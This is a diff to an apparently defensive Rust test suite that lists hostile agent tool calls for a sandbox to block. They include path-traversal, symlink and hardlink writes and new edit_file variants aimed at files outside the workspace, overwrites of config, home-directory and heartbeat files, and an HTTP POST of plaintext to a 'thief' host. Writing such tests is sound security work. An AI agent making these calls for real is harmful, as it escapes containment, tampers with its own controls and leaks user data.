@@ -164,6 +164,10 @@ fn changing(aim: &Aim) -> Vec<(&'static str, Vec<Call>)> {
     let Aim { thief, outside, gateway, .. } = aim;
     let write = |path: &str| vec![call("write_file", json!({ "path": path, "content": "OWNED" }))];
     let run = |command: &str| vec![call("run_command", json!({ "command": command }))];
+    let edit = |path: &str| {
+        let replaced = json!({ "path": path, "oldText": "precious", "newText": "OWNED" });
+        vec![call("edit_file", replaced)]
+    };
     let upload = json!({ "kind": "toolCall", "tool": "http", "arguments": { "url": format!("{thief}/"), "method": "POST", "body": "<<PLAIN>>" } });
     vec![
         ("write above", write("../escaped.txt")),
@@ -171,6 +175,9 @@ fn changing(aim: &Aim) -> Vec<(&'static str, Vec<Call>)> {
         ("write over", write(&format!("{outside}/precious.txt"))),
         ("write through a link", write("way-out/escaped.txt")),
         ("write through a second name", write("second-name.txt")),
+        ("edit beside", edit(&format!("{outside}/precious.txt"))),
+        ("edit through a link", edit("way-out/precious.txt")),
+        ("edit through a second name", edit("second-name.txt")),
         ("write the settings", write("../config.toml")),
         ("write at home", write("~/.rouse-escaped")),
         ("write the heartbeat's list", write("HEARTBEAT.md")),
